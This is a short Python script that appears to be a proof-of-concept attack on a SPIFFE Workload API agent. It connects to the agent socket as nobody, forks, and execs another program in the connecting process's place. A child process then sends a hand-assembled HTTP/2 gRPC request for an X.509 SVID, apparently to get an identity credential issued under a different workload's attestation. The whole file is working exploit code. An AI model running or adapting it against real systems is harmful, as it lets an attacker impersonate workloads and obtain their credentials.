"""Connects to the Workload API as nobody, and lets a child ask for an SVID.

usage: disguise.py SOCKET [PROGRAM]

With a program, the process that connected runs it in its own place before the child asks. What the agent answers goes to standard output.
"""

import os
import socket
import sys
import time

NOBODY = 65534
PATH = b"/SpiffeWorkloadAPI/FetchX509SVID"


def text(value: bytes) -> bytes:
    return bytes([len(value)]) + value


# RFC 7541: the static table's POST and http, then literals that are not indexed.
HEADERS = (
    b"\x83\x86"
    + b"\x04" + text(PATH)
    + b"\x01" + text(b"localhost")
    + b"\x0f\x10" + text(b"application/grpc")
    + b"\x00" + text(b"te") + text(b"trailers")
    + b"\x00" + text(b"workload.spiffe.io") + text(b"true")
)


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def ask(connection: socket.socket) -> bytes:
    """RFC 9113: the preface, empty settings, then a request with an empty message."""
    connection.sendall(
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
        + frame(4, 0, 0, b"")
        + frame(1, 4, 1, HEADERS)
        + frame(0, 1, 1, bytes(5))
    )
    connection.settimeout(1.5)
    received = b""
    try:
        while piece := connection.recv(65536):
            received += piece
    except TimeoutError:
        pass
    return received


os.setgroups([])
os.setgid(NOBODY)
os.setuid(NOBODY)
connection = socket.socket(socket.AF_UNIX)
connection.connect(sys.argv[1])
if os.fork() == 0:
    time.sleep(0.5)
    sys.stdout.buffer.write(ask(connection))
elif len(sys.argv) > 2:
    os.execv(sys.argv[2], [sys.argv[2], "3"])
else:
    os.wait()
